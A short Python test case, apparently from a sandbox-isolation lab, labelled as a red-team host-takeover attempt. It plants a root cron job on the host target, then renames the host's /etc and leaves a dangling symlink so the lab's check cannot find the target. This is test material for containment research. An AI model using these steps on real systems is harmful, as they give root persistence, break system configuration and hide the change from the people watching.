# lab:title: Host takeover that moves /etc away after writing the target
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: test
# adversary: --off isolation => ESCAPED takeover ~ seen by inotify
# adversary: --on all => CONTAINED isolation
"""The red team's F8 (round 6), second form: the target written, then the
host's /etc renamed to .etc and a dangling symlink left in its place, so
that the target's path leads nowhere when the lab looks."""
import os

t = os.environ["LAB_HOST_TARGET"]
with open(t, "w") as f:
    f.write("* * * * * root sh -c 'id > /tmp/pwn'\n")
host = t[: t.index("/host/") + 5]
os.rename(host + "/etc", host + "/.etc")
os.symlink("/nonexistent", host + "/etc")
